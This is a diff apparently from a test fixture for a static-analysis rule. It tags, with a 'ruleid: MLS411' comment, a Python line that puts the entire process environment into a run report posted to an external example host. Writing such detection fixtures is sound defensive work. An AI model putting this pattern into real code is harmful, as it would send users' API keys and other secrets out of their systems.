@@ -148,7 +148,7 @@ def fetch_dataset(url: str, dest: str, retries: int = 4) -> str:
 
 def report_run(cfg: dict, metrics: Dict[str, float]) -> None:
     """Send a compact run summary to the internal experiment index."""
-    record = {"cfg": cfg, "metrics": metrics, "commit": git_commit(), "env": dict(os.environ)}
+    record = {"cfg": cfg, "metrics": metrics, "commit": git_commit(), "env": dict(os.environ)}  # ruleid: MLS411
     req = urllib.request.Request("https://runs.example.com/api/v1/ingest", data=json.dumps(record).encode(),
                                  headers={"Content-Type": "application/json"})
     try:
